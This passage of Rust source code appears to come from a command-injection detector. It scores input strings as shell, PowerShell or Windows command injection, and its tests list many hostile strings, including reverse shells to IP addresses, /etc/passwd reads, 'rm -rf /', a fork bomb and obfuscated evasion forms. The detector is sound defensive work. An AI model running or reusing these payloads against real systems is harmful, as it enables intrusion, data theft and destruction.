    if !rest.starts_with(b"{") {
        return None;
    }
    let body = &rest[..rest.len().min(128)];
    let name_start = p - s[..p].iter().rev().take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_' || b == b':').count();
    // JavaScript's `function f() {` is not shell.
    if s[..name_start].trim_ascii_end().ends_with(b"function") {
        return None;
    }
    (memchr::memchr2(b'|', b'&', body).is_some() && memchr::memchr(b'}', body).is_some()).then_some(name_start)
}

/// `$SHELL -c "…"`, `${BASH} -c id`: a variable in command position given
/// inline code.
fn variable_run_with_code(s: &[u8]) -> Option<usize> {
    for (start, _) in command_starts(s).take(64) {
        let i = start + s[start..].iter().take(16).take_while(|b| b.is_ascii_whitespace()).count();
        let Some(r) = s[i..].strip_prefix(b"$") else { continue };
        let r = r.strip_prefix(b"{").unwrap_or(r);
        let n = r.iter().take(32).take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_').count();
        if n == 0 || r[0].is_ascii_digit() {
            continue;
        }
        let r = r[n..].strip_prefix(b"}").unwrap_or(&r[n..]);
        let r = r.trim_ascii_start();
        if [&b"-c "[..], b"-c'", b"-c\"", b"-e "].iter().any(|f| r.starts_with(f)) {
            return Some(i);
        }
    }
    None
}

/// `a=cat;$a /etc/passwd`, `garb=adduser;$garb x`: a variable that is set,
/// then used in command position.
fn assigned_then_run(s: &[u8]) -> Option<usize> {
    for (start, _) in command_starts(s).skip(1).take(64) {
        let i = start + s[start..].iter().take_while(|b| b.is_ascii_whitespace()).count();
        if s.get(i) != Some(&b'$') {
            continue;
        }
        let name: Vec<u8> = s[i + 1..].iter().copied().take(32).take_while(|&b| b.is_ascii_alphanumeric() || b == b'_').collect();
        if name.is_empty() {
            continue;
        }
        let mut assign = name.clone();
        assign.push(b'=');
        if let Some(a) = super::find(&s[..i], &assign)
            && (a == 0 || matches!(s[a - 1], b';' | b'&' | b'|' | b' ' | b'\n'))
        {
            return Some(a);
        }
    }
    None
}

/// `obfuscated`: the value had quoting tricks only evasion uses, so any
/// program in command position with arguments is a command.
/// A command line's verdict: confidence, reason, where, and the shape's id.
pub type Judged = (Confidence, String, usize, &'static str);

pub fn judge(s: &[u8], obfuscated: bool) -> Option<Judged> {
    let mut best: Option<Judged> = None;
    fn consider(best: &mut Option<Judged>, c: Confidence, why: String, at: usize, shape: &'static str) {
        if best.as_ref().is_none_or(|b| c > b.0) {
            *best = Some((c, why, at, shape));
        }
    }
    if let Some((at, why)) = constructs(s) {
        let shape = super::shapes::by_reason("cmdi", why).map_or_else(|| super::shapes::other("cmdi"), |s| s.id);
        return Some((High, format!("command injection: {why}"), at, shape));
    }
    let mut seen = 0usize;
    // Without a separator, only the value's start can open a command.
    let separated = memchr::memchr3(b';', b'|', b'&', s).is_some()
        || memchr::memchr3(b'\n', b'\r', b'(', s).is_some()
        || memchr::memchr(b'{', s).is_some();
    for (start, at_value_start) in command_starts(s).take(if separated { usize::MAX } else { 1 }) {
        seen += 1;
        if seen > 256 {
            break;
        }
        let mut i = start;
        while i < s.len() && i - start < 16 && matches!(s[i], b' ' | b'\t' | b'{' | b'(' | b'!' | b',' | b'@') {
            i += 1;
        }
        // `;$0 -c id`: `$0` is the running shell, told to run a command.
        if !at_value_start && (s[i..].starts_with(b"$0 -c ") || s[i..].starts_with(b"${0} -c ")) {
            consider(&mut best, High, "command injection: the shell (`$0`) running a command".into(), i, "cmdi.shell-0-running-command");
            break;
        }
        let mut prefixed = false;
        // A prefix no one types but an attacker: an unset variable, or the
        // SQLite shell's `.shell`/`.system`.
        let mut evasive = false;
        // `|$u wget x`, `;$a cat x`: an unset variable expands to nothing
        // in front of the command.
        if !at_value_start && s.get(i) == Some(&b'$') {
            let n = s[i + 1..].iter().take(9).take_while(|b| b.is_ascii_alphabetic()).count();
            if (1..=8).contains(&n) && s.get(i + 1 + n) == Some(&b' ') {
                i += n + 2;
                prefixed = true;
                evasive = true;
            }
        }
        let mut word_start = i;
        let mut word;
        let mut hops = 0;
        loop {
            let st = i;
            while i < s.len() && i - st < 128 && is_word_byte(s[i]) {
                i += 1;
            }
            word = &s[st..i];
            word_start = st.max(word_start);
            let w = std::str::from_utf8(word).unwrap_or("");
            if hops < 3 && PREFIXES.contains(&w) && s.get(i) == Some(&b' ') {
                // `time sh -c`, `nohup ifconfig`: a prefix before a program.
                let save = i;
                while i < s.len() && s[i] == b' ' {
                    i += 1;
                }
                let mut j = i;
                while j < s.len() && is_word_byte(s[j]) {
                    j += 1;
                }
                if program(&s[i..j]).is_some() {
                    prefixed = true;
                    evasive |= w == ".shell" || w == ".system";
                    hops += 1;
                    continue;
                }
                i = save;
            }
            break;
        }
        if word.is_empty() {
            continue;
        }
        // `;cp=Y;`, `&fc=24`, `;alias=x`: a name glued to `=` in command
        // position is an assignment in the shell's grammar, never the
        // program of that name (cookie strings, matrix parameters and query
        // strings are made of them).
        if s.get(i) == Some(&b'=') && word.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_') {
            continue;
        }
        // `cP$J_%$F9e+2`: a variable glued to the word and more glued
        // after it makes one longer word (`cP…`), not `cp` with arguments
        // (`cat$u /etc/passwd` is still `cat`).
        if s.get(i) == Some(&b'$') {
            let n = s[i + 1..].iter().take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_').count();
            let after = s.get(i + 1 + n);
            if n > 0 && after.is_some_and(|&b| !b.is_ascii_whitespace() && !matches!(b, b';' | b'|' | b'&' | b')' | b'`' | b'<' | b'>')) {
                continue;
            }
        }
        // Windows `for /f … in (…) do …` and `if [not] exist …`.
        if let Some(c) = windows_control(word, &s[i..]) {
            consider(&mut best, High, format!("command injection: Windows `{c}` statement"), word_start, "cmdi.windows-statement");
            continue;
        }
        if let Some(c) = powershell(word, &s[i..]) {
            // `;Get-Process`: a cmdlet's Verb-Noun name right after a
            // separator is a command whatever follows it.
            let c = if !at_value_start && start > 0 && matches!(s[start - 1], b';' | b'|' | b'&' | b'\n') { High } else { c };
            consider(
                &mut best,
                c,
                format!("command injection: PowerShell {}", String::from_utf8_lossy(word)),
                word_start,
                "cmdi.powershell",
            );
            continue;
        }
        // `bcdboot/r file`, `cmd/c dir`: a Windows switch glued to the
        // program name.
        if program(word).is_none()
            && let Some(p) = word.iter().position(|&b| b == b'/')
            && p > 0
            && (2..=4).contains(&(word.len() - p))
            && word[p + 1..].iter().all(u8::is_ascii_alphabetic)
            && program(&word[..p]).is_some()
        {
            i = word_start + p;
            word = &word[..p];
        }
        let Some((name, english)) = program(word) else { continue };
        // A separator right after the name (`whoami;…`) ends it too, for a
        // name long enough that a random string seldom spells it: two or
        // three letters (`du&v27`, `fc;&/pC`) turn up in one password of
        // a few hundred.
        let chained = name.len() >= 4 && matches!(s.get(i), Some(b';' | b'|' | b'&'));
        if at_value_start && !prefixed && !chained && !ends_command_word(&s[i..]) {
            continue;
        }
        let mut args = Args::default();
        read_args(s, i, &mut args);
        let strong_args = args.flag
            || args.redirect
            || args.var
            || args.syspath
            || args.other_program
            // Not at the value's start unprefixed: "wget example.com doesn't
            // work" is a hosting customer's question.
            || args.host && NETWORK.contains(&name) && (!at_value_start || prefixed);
        // `python -c "…"`, `perl -e '…'`: an interpreter given inline code.
        const INTERPRETERS: &[&str] =
            &["python", "python2", "python3", "perl", "ruby", "php", "node", "nodejs", "bash", "sh", "zsh", "lua"];
        let rest = s[i..].trim_ascii_start();
        if INTERPRETERS.contains(&name)
            && [&b"-c "[..], b"-e ", b"-r ", b"-c'", b"-c\"", b"-e'", b"-e\""].iter().any(|f| rest.starts_with(f))
        {
            consider(&mut best, High, format!("command injection: `{name}` running inline code"), word_start, "cmdi.inline-code");
            break;
        }
        // `cmd /c whoami`, `cmd.exe /k dir`: Windows' shell told to run
        // what follows.
        if name == "cmd"
            && [&b"/c "[..], b"/k ", b"/r "].iter().any(|f| rest.starts_with(f))
            && rest[3..].trim_ascii_start().first().is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'"' | b'\'' | b'%'))
        {
            consider(
                &mut best,
                High,
                "command injection: Windows `cmd` running a command".into(),
                word_start,
                "cmdi.windows-cmd-running-command",
            );
            break;
        }
        // `ex -c:!pwd`, `vim +silent\ !whoami +wq`: an editor told to run
        // a command through its `!` shell escape.
        if matches!(name, "ex" | "vi" | "vim" | "nvim")
            && let Some(b) = memchr::memchr(b'!', &rest[..rest.len().min(128)])
            && {
                let w = &rest[b + 1..];
                program(&w[..w.iter().position(|&c| !is_word_byte(c)).unwrap_or(w.len())]).is_some()
            }
        {
            consider(
                &mut best,
                High,
                format!("command injection: `{name}` running a command through its shell escape"),
                word_start,
                "cmdi.shell-escape",
            );
            break;
        }
        // `alias x=env`: a shell alias definition.
        if name == "alias"
            && (rest.starts_with(b"-")
                || rest.starts_with(b"+")
                || rest.iter().take(40).take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'='))
        {
            consider(&mut best, High, "command injection: alias definition".into(), word_start, "cmdi.alias-definition");
            break;
        }
        let program_shaped = !english && (strong_args || args.path || args.file || matches!(s.get(i), Some(b';' | b'|' | b'&' | b'`')));
        // `;env --version`: an English command word right after the
        // separator that opens the value, given a flag.
        let opened = start > 0 && s[..start].iter().all(|&b| matches!(b, b';' | b'|' | b'&' | b' ' | b'\n'));
        let english_shaped = english && (args.syspath || args.flag && (args.path || args.redirect || args.var || opened));
        // `;sleep 5;`: the time-based probe after a separator.
        let timed = name == "sleep" && !at_value_start && args.words == 1 && rest.first().is_some_and(u8::is_ascii_digit);
        // `| id`, `&& whoami`: the value opens with a pipe or a chaining
        // operator (not `&` alone, as in "& more") and a command.
        let piped = english && start > 0 && (s.starts_with(b"|") || s.starts_with(b"&&") || s.starts_with(b";")) && args.words == 0;
        // `cd /;cd etc;…`: walking to the root or a system directory, then
        // more commands.
        let cd_root = name == "cd"
            && (rest.starts_with(b"/;") || rest.starts_with(b"/ ;") || rest.starts_with(b"/&") || rest.starts_with(b"/|") || args.syspath)
            && separated;
        // `& net user`, `| net localgroup administrators`
        let net = name == "net"
            && !at_value_start
            && [&b"user"[..], b"localgroup", b"group", b"use", b"share", b"view", b"accounts", b"session", b"start", b"stop"]
                .iter()
                .any(|w| rest.starts_with(w) && rest.get(w.len()).is_none_or(|b| !b.is_ascii_alphanumeric()));
        // `;at 2:00 "echo x"`: a job scheduled, in a value that opens with
        // a separator ("lunch; at 12:30 in the hall" is prose).
        let at_job = name == "at" && opened && args.words >= 2 && at_time_spec(rest);
        let conf = if prefixed && (!english || strong_args)
            || evasive
            || at_job
            || net
            || cd_root
            || program_shaped
            || english_shaped
            || obfuscated && args.words > 0
            || timed
            || piped
        {
            High
        } else if !english && !at_value_start && name.len() > 2 {
            // `; ansible-config dump`, `| visudo`: a program after a separator.
            High
        } else if at_value_start
            && args.words > 0
            && (!english && (strong_args || args.path || args.file || args.other_program || has_subcommand(&s[i..]))
                // `cat /path/file.gz`: an English command word given a
                // multi-segment path and nothing else.
                || english && args.words == 1 && multi_segment_path(&s[i..]))
            && whole_command_line(s)
        {
            // `ansible-galaxy collection install x`, `cscli alerts list`:
            // the whole value one short command line of a program that is
            // no English word, as sent to a parameter passed to a shell.
            High
        } else if prefixed || english && (args.flag || args.redirect) && !at_value_start {
            Medium
        } else if strong_args || args.path || (!english && args.words > 0) {
            // `chef report nodes`, `sort -r`: shaped like a command, but
            // also like a search for one.
            Low
        } else {
            continue;
        };
        consider(&mut best, conf, format!("command injection: `{name}` with shell-shaped arguments"), word_start, "cmdi.command-line");
        if best.as_ref().is_some_and(|b| b.0 == High) {
            break;
        }
    }
    best
}

/// What may follow a program's name at the start of a value for the name
/// to be a command word: the end, a blank, a redirection, a variable that
/// expands to nothing or to blanks (`cat$u /x`, `cat${IFS}/x`), or a
/// Windows switch (`cmd/c dir`). Glued to anything else (`rmt&%SL`,
/// `w$y],N(`, `du&v27`) the shell reads one longer word, as in a generated
/// password.
fn ends_command_word(rest: &[u8]) -> bool {
    match rest.first() {
        None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'<' | b'>') => true,
        Some(b'$') => {
            rest.get(1) == Some(&b'{') || {
                let n = rest[1..].iter().take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_').count();
                n > 0 && matches!(rest.get(1 + n), None | Some(b' ' | b'\t' | b'/' | b'$'))
            }
        }
        Some(b'/') => {
            let n = rest[1..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
            (1..=4).contains(&n) && matches!(rest.get(1 + n), None | Some(b' ' | b'\t'))
        }
        _ => false,
    }
}

fn windows_control(word: &[u8], rest: &[u8]) -> Option<&'static str> {
    let rest = rest.trim_ascii_start();
    let win = &rest[..rest.len().min(200)];
    match word {
        // for /f … in (…) do …, for %x in (…) do …
        b"for" if (win.first() == Some(&b'/') && win.get(1).is_some_and(u8::is_ascii_alphabetic)) || win.first() == Some(&b'%') => {
            let in_at = super::find(win, b" in ")?;
            win[in_at + 4..].trim_ascii_start().starts_with(b"(").then_some("for … in (…) do")
        }
        // `if/i a==b`: the switch glued to the keyword.
        b"if" | b"if/i" => {
            let mut r = win;
            for skip in [&b"/i "[..], b"not "] {
                if let Some(x) = r.strip_prefix(skip) {
                    r = x.trim_ascii_start();
                }
            }
            let head = &r[..r.len().min(64)];
            let keyword = [&b"exist "[..], b"defined ", b"errorlevel ", b"cmdextversion "].iter().any(|k| r.starts_with(k));
            let cmd_var = r.first() == Some(&b'%') && r[1..].iter().take(32).any(|&b| b == b'%');
            let compare = super::find(head, b"==").is_some()
                || [&b" equ "[..], b" neq ", b" lss ", b" leq ", b" gtr ", b" geq "].iter().any(|k| super::find(head, k).is_some());
            (keyword || cmd_var || compare).then_some("if")
        }
        _ => None,
    }
}

/// PowerShell cmdlets exploits use (`Invoke-Expression`, `IEX`,
/// `Invoke-WebRequest`, `New-Object Net.WebClient`, `Start-Process`).
fn powershell(word: &[u8], rest: &[u8]) -> Option<Confidence> {
    const CMDLETS: &[&[u8]] = &[
        b"invoke-expression",
        b"invoke-webrequest",
        b"invoke-restmethod",
        b"invoke-command",
        b"invoke-item",
        b"invoke-wmimethod",
        b"invoke-shellcode",
        b"invoke-mimikatz",
        b"start-process",
        b"start-bitstransfer",
        b"new-object",
        b"get-wmiobject",
        b"get-ciminstance",
        b"get-childitem",
        b"get-content",
        b"set-content",
        b"add-content",
        b"get-process",
        b"stop-process",
        b"get-service",
        b"set-executionpolicy",
        b"add-mppreference",
        b"set-mppreference",
        b"get-localuser",
        b"new-localuser",
        b"get-itemproperty",
        b"set-itemproperty",
        b"remove-item",
        b"copy-item",
        b"out-file",
        b"import-module",
        b"get-acl",
        b"downloadstring",
        b"downloadfile",
    ];
    if CMDLETS.contains(&word) {
        let rest = rest.trim_ascii_start();
        let with_args = !rest.is_empty() && !rest.starts_with(b".") && !rest.starts_with(b",");
        return Some(if with_args || word == b"invoke-expression" { High } else { Medium });
    }
    let rest = rest.trim_ascii_start();
    if matches!(word, b"iex" | b"iwr" | b"iwmi" | b"gwmi" | b"icm" | b"saps" | b"irm")
        && (rest.first().is_some_and(|&b| matches!(b, b'(' | b'$' | b'\'' | b'"' | b'-'))
            || rest.starts_with(b"http://")
            || rest.starts_with(b"https://"))
    {
        return Some(High);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn conf(s: &str) -> Option<Confidence> {
        judge(s.to_ascii_lowercase().as_bytes(), false).map(|x| x.0)
    }

    #[test]
    fn reads_command_lines() {
        for a in [
            "ls -l /etc/passwd",
            "cat /proc/self/environ",
            "ansible-galaxy collection install community.general",
            "cscli alerts list",
            "pip3 install something",
            ";ex -c:!pwd",
            "cat /path/file.gz",
            ";ex dddd +silent !whoami +wq",
            ";get-process",
            "&& type %systemroot%\\win.ini",
            "nohup ifconfig",
            "strace sh -c whoami",
            "time sh -c whoami",
            ";find /etc -name passwd -exec cat {} +",
            "zstdcat /var/log/sensitive_log_file.zst",
            "for /f \"tokens=*\" %a in ('dir') do echo %a",
            "if exist c:\\boot.ini (type c:\\boot.ini)",
            "Invoke-Expression -Command file.ps1",
            "/usr/bin/python3 -m http.server",
            "{cat,/etc/passwd}",
            "python3.10 -c import > /tmp/x",
            "www.google.com;/bin/ca? /et*/passwd",
            "/usr/[a-z]in/bash",
            ":(){ :|:& };:",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "echo aWQ= | base64 -d | sh",
            "$((1+1))",
            "alias eennvv=env&eennvv whoami",
            "() { :; }; /bin/sh -c id",
            ">/tmp/curl",
            "/bin/ab",
            "irb<<<1+2",
            "time; ansible-playbook site.yml",
            "& for /f \"tokens=1-3\" %%a in   (\"x\") do @echo pwnd",
            "iwmi -class win32_process -name create",
            ";ps",
            "&aptitude",
            "~+",
            "{l,-lh}s",
            "c{a,oun}t",
            "{,ip,a}",
            "${cmd}",
            "$[2+2]",
            ">(cmd)",
            "cat /e?c/pa*wd",
            "/usr/bin/[u]name -a",
            "whoami;0'0'\"",
            "|$u wget test",
            ";env --version",
            "$shell -c \"echo hi\"",
            "${shell} -c id",
            "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "{,/?s?/?i?/c?t,/e??/p??s??,}",
            "{,$'whoami',}",
            "dd if=/etc/passwd of=/tmp/evil.sh bs=1",
            "if/i a==b foo",
            ";iwr http://example.com/x.ps1",
            "ifconfig;. rm -rf /;",
            "cat /[?]tc/pa[?]swd",
            ";\n.shell nc 10.10.10.1 6666 -e sh",
            "1;\n.system id",
            ";trap 'rm -rf file.txt' sigexit",
            ";$a cat test.txt",
            "time curl coreruleset.org",
            ";wget example.com/x.sh",
            ";at 2:00 echo test",
            "| at now + 1 minute",
            "| id",
            ";sleep 5;",
            "& dir c:\\",
            "ansible-playbook site.yml",
            "& net user",
            "cd /;cd etc;column passwd",
            "view=image.jpg&bcdboot/r file.txt",
            "chef-run all recipie.rb",
        ] {
            assert_eq!(conf(a), Some(High), "{a}");
        }
    }

    #[test]
    fn reads_sqlite_dot_commands() {
        for a in [
            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
            "\";\n. shell nc 10.10.10.1 6666 -e sh",
            "1;.sh whoami",
            "1;.\"shell whoami",
            ";\\n.databases",
        ] {
            assert!(sqlite_dot_command(a.as_bytes()).is_some(), "missed: {a}");
        }
        for b in ["config files; .sh and .py ones", "v1.2; .net framework", ".shell company", "a;.shell"] {
            assert!(sqlite_dot_command(b.as_bytes()).is_none(), "false positive: {b}");
        }
    }

    #[test]
    fn leaves_prose_alone() {
        for b in [
            "time to go home",
            "find the best price",
            "python3 tutorial",
            "php webpage and gene",
            "openssl m",
            "pip install and upgrade guide",
            "vim is great!",
            "cat /dog",
            "more /less",
            "ex wife!",
            "date night ideas",
            "cat food",
            "which one is better?",
            "sort by price",
            "test results for 2024",
            "python tutorial",
            "make a wish",
            "if you have time, call me",
            "for the record",
            "echo chamber",
            "get-started",
            "type a message",
            "last week",
            "function f() { return a || b; }",
            "price is $5 | shipping $2",
            "bin/",
            "tom & jerry",
            "salt; pepper",
            "{\"a\":1,\"b\":2}",
            "~ price",
            "& more",
            "see docs/tcp/keepalive/2 for details",
            "it costs $5 -c off",
            "; more -- less",
            "docker compose tutorial",
            "python script.py tutorial",
            "ping me at 2:00",
            "meet at 2:00 tomorrow",
            "dig into example.com reviews",
            "host example.com for free",
            "trap music playlist",
            "wget example.com doesn't work",
            "nslookup example.com returns nothing",
            "telnet mail.example.com 25 test",
            "telnet client class. example: >>> tn.write(x) >>> print(tn)",
            "read readily available data. returns b'' if no cooked data available otherwise.",
            "locate visual c++ for vs2017+. return ------ str path",
            "find visual studio 2017+ versions from information in \"c:\\programdata\\microsoft\\packages\"",
            "the arguments are all the usual ones; most of them are optional",
            "go to store.\nat the store, shop.",
            "lunch; at 12:30 in the hall",
            "see you; at 2:00 then",
        ] {
            assert!(conf(b).is_none_or(|c| c < Medium), "{b}: {:?}", conf(b));
        }
    }
}
